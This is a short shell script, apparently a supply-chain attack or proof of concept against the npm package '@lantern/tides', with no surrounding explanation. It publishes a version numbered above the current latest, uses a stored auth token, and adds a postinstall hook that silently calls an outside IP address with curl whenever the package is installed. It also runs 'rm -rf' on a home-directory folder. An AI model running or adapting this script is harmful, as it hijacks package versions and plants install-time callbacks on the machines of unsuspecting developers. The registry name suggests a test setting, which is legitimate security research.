cd ~ && rm -rf own && mkdir own && cd own
latest=$(npm view @lantern/tides version)
last=${latest##*.}
printf '{"name":"@lantern/tides","version":"%s","scripts":{"postinstall":"curl -s http://198.51.100.8/installed"}}\n' "${latest%.*}.$(( last + 1 ))" > package.json
echo "//registry.npm.test/:_authToken=$NPM" > .npmrc
npm publish --access public
